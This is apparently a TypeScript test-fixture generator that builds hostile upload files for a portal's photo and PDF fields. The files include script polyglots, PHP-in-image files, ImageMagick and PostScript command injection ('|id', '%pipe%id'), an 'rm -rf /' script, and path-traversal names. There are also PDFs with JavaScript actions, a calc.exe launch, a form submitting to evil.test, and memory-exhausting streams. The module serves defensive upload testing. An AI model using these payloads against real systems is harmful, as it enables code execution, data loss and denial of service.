import { crc32, deflateSync, gzipSync } from 'node:zlib';

import sharp from 'sharp';

import { aPdf, aPicture, type SampleFile } from './sample-files.ts';

export interface HostileFile extends SampleFile {
  readonly field: 'profilePhoto' | 'distributionAgreement';
  /** What makes the file hostile, for the report. */
  readonly what: string;
  /** The expected outcome. `re-encoded` is for valid pictures with a payload, which must be gone from the re-encoded picture. */
  readonly expected: 'rejected' | 're-encoded' | 'ignored';
}

/** Every file with a payload contains this text, and nothing that is served may contain it. */
export const payload = 'alert("portal-payload-7f3a9")';

/** Generates files that pretend to be something else, run code, or crash the parser, so that none is in the repository. */
export async function hostileFiles(): Promise<HostileFile[]> {
  return [
    ...(await disguisedPictures()),
    ...(await picturesWithPayload()),
    ...(await oversizedPictures()),
    ...disguisedDocuments(),
    ...documentsWithActiveContent(),
  ];
}

const script = `<script>${payload}</script>`;
const html = Buffer.from(`<!doctype html><html><body>${script}</body></html>`);
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload='${payload}'>${script}</svg>`);
const eicar = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''));
const MiB = 1024 * 1024;

async function disguisedPictures(): Promise<HostileFile[]> {
  const png = await aPicture('png');
  const jpeg = await aPicture('jpeg');
  const webp = await aPicture('webp');
  const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(20), Buffer.from(`*/=1;${payload};`)]);
  const files: [string, string, Buffer, string?][] = [
    ['HTML called a picture', 'photo.jpg', html, 'image/jpeg'],
    ['HTML with the media type of HTML', 'photo.html', html, 'text/html'],
    ['an SVG with a script', 'logo.svg', svg, 'image/svg+xml'],
    ['an SVG called a PNG', 'logo.png', svg, 'image/png'],
    ['an SVG after an XML declaration', 'logo.png', Buffer.concat([Buffer.from('<?xml version="1.0"?>'), svg]), 'image/png'],
    ['an SVG after a byte order mark', 'logo.png', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), svg])],
    ['a compressed SVG', 'logo.svgz', gzipSync(svg), 'image/svg+xml'],
    ['a GIF that is also JavaScript', 'photo.gif', gif, 'image/gif'],
    ['a GIF called a PNG', 'photo.png', gif, 'image/png'],
    ['a script', 'photo.png', Buffer.from(payload), 'image/png'],
    ['a PHP script', 'photo.php', Buffer.from(`<?php ${payload} ?>`), 'image/png'],
    ['a PHP script after the first bytes of a GIF', 'photo.php.gif', Buffer.from(`GIF89a<?php ${payload} ?>`), 'image/gif'],
    ['a shell script', 'photo.sh', Buffer.from('#!/bin/sh\nrm -rf /\n')],
    ['a Windows program', 'photo.png.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 7)]), 'image/png'],
    ['a Linux program', 'photo.png', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200, 7)])],
    ['an archive', 'photo.zip', aZip('photo.png', png), 'image/png'],
    ['an archive called a picture', 'photo.jpg', aZip('x.html', html), 'image/jpeg'],
    ['a PDF', 'photo.png', aPdf(), 'image/png'],
    [
      'a TIFF',
      'photo.tiff',
      await sharp(png)
        .tiff()
        .toBuffer()
        .catch(() => Buffer.from('II*\0')),
      'image/tiff',
    ],
    ['a BMP', 'photo.bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(100, 1)]), 'image/bmp'],
    ['an icon', 'photo.ico', Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0, 0, 0, 0, 0, 22, 0, 0, 0])],
    ['an AVIF without content', 'photo.avif', Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf', 'latin1'), 'image/avif'],
    ['a font', 'photo.woff2', Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(100)])],
    ['a video', 'photo.mp4', Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), 'video/mp4'],
    [
      'ImageMagick commands',
      'photo.mvg',
      Buffer.from(`push graphic-context\nfill 'url(https://127.0.0.1/"|id")'\npop graphic-context`),
    ],
    ['PostScript', 'photo.eps', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n')],
    ['the first bytes of a PNG and nothing after them', 'photo.png', png.subarray(0, 8), 'image/png'],
    ['the first bytes of a PNG and HTML after them', 'photo.png', Buffer.concat([png.subarray(0, 8), html]), 'image/png'],
    ['the first bytes of a JPEG and HTML after them', 'photo.jpg', Buffer.concat([jpeg.subarray(0, 4), html]), 'image/jpeg'],
    ['the first bytes of a WebP and HTML after them', 'photo.webp', Buffer.concat([webp.subarray(0, 16), html]), 'image/webp'],
    ['half a PNG', 'photo.png', png.subarray(0, png.length / 2), 'image/png'],
    ['half a JPEG', 'photo.jpg', jpeg.subarray(0, jpeg.length / 2), 'image/jpeg'],
    ['half a WebP', 'photo.webp', webp.subarray(0, webp.length / 2), 'image/webp'],
    ['a PNG with a wrong checksum', 'photo.png', flipByte(png, 29), 'image/png'],
    ['pseudorandom bytes', 'photo.png', Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 7919) % 251))],
    ['a single zero byte', 'photo.png', Buffer.alloc(1)],
    ['a PNG with the test virus in it', 'photo.png', withPngText(png, eicar)],
    ['a JPEG with the test virus after its end', 'photo.jpg', Buffer.concat([jpeg, eicar])],
    ['the test virus itself', 'photo.png', eicar],
  ];
  return [
    ...files.map(([what, name, bytes, type]) => aHostileFile('profilePhoto', what, name, bytes, 'rejected', type)),
    aHostileFile('profilePhoto', 'an empty file', 'photo.png', Buffer.alloc(0), 'ignored', 'image/png'),
  ];
}

/** Valid pictures with a payload or with a file name that some systems would misuse. */
async function picturesWithPayload(): Promise<HostileFile[]> {
  const png = await aPicture('png', 300, 300);
  const jpeg = await aPicture('jpeg', 300, 300);
  const webp = await aPicture('webp', 300, 300);
  const files: [string, string, Buffer][] = [
    ['a PNG with HTML in a text chunk', 'photo.png', withPngText(png, Buffer.from(script))],
    ['a PNG with HTML after its end', 'photo.png', Buffer.concat([png, html])],
    ['a PNG with an archive after its end', 'photo.png', Buffer.concat([png, aZip('x.html', html)])],
    ['a JPEG with a script in its comment', 'photo.jpg', withJpegComment(jpeg, `*/=1;${payload}/*`)],
    ['a JPEG with HTML in its comment', 'photo.jpg', withJpegComment(jpeg, script)],
    [
      'a JPEG with a script in its Exif',
      'photo.jpg',
      await sharp(jpeg)
        .withExif({ IFD0: { Copyright: script } })
        .toBuffer(),
    ],
    ['a JPEG with PHP after its end', 'photo.jpg', Buffer.concat([jpeg, Buffer.from(`<?php ${payload} ?>`)])],
    ['a WebP with HTML after its end', 'photo.webp', Buffer.concat([webp, html])],
    ['a PNG called HTML', 'photo.html', png],
    ['a PNG called SVG', 'photo.svg', png],
    ['a PNG with two extensions', 'photo.php.png', png],
    ['a PNG with path traversal in its name', '../../../../etc/cron.d/photo.png', png],
    ['a PNG with path traversal by backslashes in its name', '..\\..\\windows\\photo.png', png],
    ['a PNG whose name is a path', '/etc/passwd', png],
    ['a PNG with an escaped NUL in its name', 'photo.html%00.png', png],
    ['a PNG whose name is an HTML tag', "<img src=x onerror='alert(1)'>.png", png],
    ['a PNG with a right-to-left override in its name', 'photo\u202Egnp.html', png],
    ['a PNG without a name', '.', png],
    ['a PNG with a very long name', `${'x'.repeat(3000)}.png`, png],
    ['a PNG announced as HTML', 'photo.png', png],
    ['the smallest PNG', 'photo.png', await aPicture('png', 1, 1)],
  ];
  return files.map(([what, name, bytes]) => aHostileFile('profilePhoto', what, name, bytes, 're-encoded', 'text/html'));
}

async function oversizedPictures(): Promise<HostileFile[]> {
  const jpeg = await aPicture('jpeg');
  const files: [string, Buffer][] = [
    ['a PNG that claims to be 50,000 pixels wide and high', aPngHeader(50_000, 50_000)],
    ['a PNG that claims the largest size of the format', aPngHeader(2 ** 31 - 1, 2 ** 31 - 1)],
    ['a PNG of width zero', aPngHeader(0, 100)],
    ['a complete PNG of 300 million pixels', aPngOfOneColour(20_000, 15_000)],
    ['a PNG that claims to be one row of 60 million pixels', aPngHeader(60_000_000, 1)],
    ['a JPEG that claims to be 65,500 pixels wide and high', withJpegSize(jpeg, 65_500, 65_500)],
    ['a WebP that claims to be 16,383 pixels wide and high', aWebpHeader(16_383, 16_383)],
    ['a PNG with 20 MiB of compressed text', withPngText(await aPicture(), deflateSync(Buffer.alloc(20 * MiB)), 'zTXt')],
    ['one byte more than 5 MiB', Buffer.concat([await aPicture(), Buffer.alloc(5 * MiB)])],
  ];
  return files.map(([what, bytes]) =>
    aHostileFile(
      'profilePhoto',
      what,
      'photo.png',
      bytes,
      what.includes('compressed text') ? 're-encoded' : 'rejected',
      'image/png',
    ),
  );
}

function disguisedDocuments(): HostileFile[] {
  const pdf = aPdf({ pages: 2 });
  const files: [string, Buffer][] = [
    ['HTML', html],
    ['an SVG', svg],
    ['an archive', aZip('x.html', html)],
    ['a Word document', aZip('word/document.xml', Buffer.from('<w:document/>'))],
    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 3)])],
    ['HTML before a PDF', Buffer.concat([html, pdf])],
    ['a PDF that is also HTML from its second line on', aPdf({ comment: `%<html>${script}` })],
    ['a PDF with HTML after its end', Buffer.concat([pdf, html])],
    ['a PDF with an archive after its end', Buffer.concat([pdf, aZip('x.html', html)])],
    ['the first bytes of a PDF and nothing after them', Buffer.from('%PDF-1.7\n')],
    ['half a PDF', pdf.subarray(0, pdf.length / 2)],
    ['a PDF without its end', pdf.subarray(0, pdf.length - 8)],
    ['a PDF without pages', aPdf({ pages: 0 })],
    [
      'a PDF whose page tree contains itself',
      aPdf({ catalogue: '/Pages 10 0 R', objects: ['<< /Type /Pages /Kids [10 0 R] /Count 1 >>'] }),
    ],
    ['a PDF with the test virus in it', aPdf({ objects: [eicar] })],
    ['a PDF that needs a password', anEncryptedPdf()],
    ['one byte more than 15 MiB', Buffer.concat([pdf, Buffer.alloc(15 * MiB)])],
  ];
  return files.map(([what, bytes]) =>
    aHostileFile('distributionAgreement', what, 'agreement.pdf', bytes, 'rejected', 'application/pdf'),
  );
}

function documentsWithActiveContent(): HostileFile[] {
  const action = `<< /S /JavaScript /JS (${payload.replaceAll(/[()]/g, String.raw`\$&`)}) >>`;
  const objectStream = (content: string, extra = '') => {
    const bytes = deflateSync(Buffer.from(`20 0 ${content}`, 'latin1'));
    const head = `<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode ${extra}/Length ${bytes.length} >>\nstream\n`;
    return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream')]);
  };
  const manyObjectStreams = Array.from({ length: 80 }, () => objectStream(' '.repeat(3 * MiB)));
  const files: [string, Parameters<typeof aPdf>[0]][] = [
    ['a script when it is opened', { catalogue: '/OpenAction 10 0 R', objects: [action] }],
    ['a script in its name tree', { catalogue: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', objects: [action] }],
    [
      'a script whose type is written with an escape',
      { catalogue: '/OpenAction 10 0 R', objects: [action.replace('/JavaScript', '/Java#53cript')] },
    ],
    ['a script when it is closed', { catalogue: '/AA << /WC 10 0 R >>', objects: [action] }],
    ['a script in a compressed object stream', { catalogue: '/OpenAction 20 0 R', objects: [objectStream(action)] }],
    [
      'a script in an object stream whose type is written with an escape',
      { objects: [Buffer.from(objectStream(action).toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1')] },
    ],
    ['a program to start', { catalogue: '/OpenAction 10 0 R', objects: ['<< /S /Launch /F (calc.exe) >>'] }],
    [
      'an embedded file',
      {
        catalogue: '/Names << /EmbeddedFiles << /Names [(x.exe) 10 0 R] >> >>',
        objects: ['<< /Type /Filespec /EF << /F 11 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
      },
    ],
    ['a form that submits itself', { objects: ['<< /S /SubmitForm /F (https://evil.test) >>'] }],
    ['a form that imports data', { objects: ['<< /S /ImportData /F (\\\\\\\\evil.test\\\\x) >>'] }],
    ['rich media', { objects: ['<< /Subtype /RichMedia /RichMediaContent 1 0 R >>'] }],
    ['a link into an embedded file', { objects: ['<< /S /GoToE /D [0 /Fit] >>'] }],
    ['eighty compressed object streams that together fill the memory', { objects: manyObjectStreams }],
    ['starts of compressed streams that all share one end', { objects: [`${'stream\n\x78\x9c'.repeat(30_000)}endstream`] }],
    ['a compressed object stream that fills the memory', { objects: [objectStream(' '.repeat(64 * MiB))] }],
  ];
  return files.map(([what, parts]) =>
    aHostileFile('distributionAgreement', `a PDF with ${what}`, 'agreement.pdf', aPdf(parts), 'rejected', 'application/pdf'),
  );
}

function aHostileFile(
  field: HostileFile['field'],
  what: string,
  name: string,
  bytes: Buffer,
  expected: HostileFile['expected'],
  type = 'application/octet-stream',
): HostileFile {
  return { field, what, name, bytes, expected, type };
}

function flipByte(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ 0xff;
  return copy;
}

function pngChunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngHeaderChunk(width: number, height: number): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  // One bit per pixel, greyscale.
  size[8] = 1;
  return pngChunk('IHDR', size);
}

function aPngHeader(width: number, height: number): Buffer {
  return Buffer.concat([
    pngSignature,
    pngHeaderChunk(width, height),
    pngChunk('IDAT', deflateSync(Buffer.alloc(100))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function aPngOfOneColour(width: number, height: number): Buffer {
  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 });
  return Buffer.concat([
    pngSignature,
    pngHeaderChunk(width, height),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function withPngText(png: Buffer, text: Buffer, type: 'tEXt' | 'zTXt' = 'tEXt'): Buffer {
  const key = Buffer.from(type === 'tEXt' ? 'Comment\0' : 'Comment\0\0', 'latin1');
  // The text comes after the first chunk, which contains the dimensions and ends at byte 33.
  return Buffer.concat([png.subarray(0, 33), pngChunk(type, Buffer.concat([key, text])), png.subarray(33)]);
}

function withJpegComment(jpeg: Buffer, text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, Buffer.from(text), jpeg.subarray(2)]);
}

function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const frame = [0xc0, 0xc2].map((marker) => copy.indexOf(Buffer.from([0xff, marker]))).find((at) => at > 0) ?? 0;
  copy.writeUInt16BE(height, frame + 5);
  copy.writeUInt16BE(width, frame + 7);
  return copy;
}

function aWebpHeader(width: number, height: number): Buffer {
  const frame = Buffer.alloc(30);
  frame.write('RIFF', 0, 'latin1');
  frame.writeUInt32LE(22, 4);
  frame.write('WEBPVP8X', 8, 'latin1');
  frame.writeUInt32LE(10, 16);
  frame.writeUIntLE(width - 1, 24, 3);
  frame.writeUIntLE(height - 1, 27, 3);
  return frame;
}

/** An uncompressed archive with one file. */
function aZip(name: string, content: Buffer): Buffer {
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return Buffer.concat([local, Buffer.from(name), content, end]);
}

function anEncryptedPdf(): Buffer {
  const key = `<${'41'.repeat(32)}>`;
  const encryption = `<< /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >>`;
  return aPdf({ objects: [encryption], trailer: `/Encrypt 10 0 R /ID [${key} ${key}]` });
}
